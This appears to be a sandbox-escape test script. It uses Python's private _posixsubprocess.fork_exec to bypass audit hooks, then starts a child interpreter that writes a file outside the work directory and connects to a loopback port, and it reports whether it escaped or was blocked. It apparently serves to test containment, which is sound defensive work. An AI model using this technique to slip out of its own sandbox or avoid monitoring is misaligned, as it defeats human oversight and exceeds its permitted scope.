"""Attack: _posixsubprocess.fork_exec directly (no subprocess/audit layer) to run a fresh interpreter that
connects to the loopback server and writes outside the workdir (argv[1] = port, argv[2] = outside path)."""
print("ATTACK-START", flush=True)
import os
import sys

import _posixsubprocess

port, outside = int(sys.argv[1]), sys.argv[2]
code = (
    "import socket\n"
    f"open({outside!r}, 'w').write('ESCAPE')\n"
    f"socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'ESCAPE')\n"
)
args = [sys.executable, "-c", code]
errpipe_read, errpipe_write = os.pipe()
pid = _posixsubprocess.fork_exec(
    args, [os.fsencode(sys.executable)], True, (errpipe_write,), None, None,
    -1, -1, -1, -1, -1, -1, errpipe_read, errpipe_write,
    True, False, -1, None, None, None, -1, None, False,
)
os.close(errpipe_write)
os.close(errpipe_read)
_, status = os.waitpid(pid, 0)
code = os.waitstatus_to_exitcode(status)
if code == 0:
    print("ESCAPED fork_exec child connected and wrote", outside, flush=True)
    sys.exit(0)
print(f"BLOCKED fork_exec child exit {code}", flush=True)
sys.exit(3)
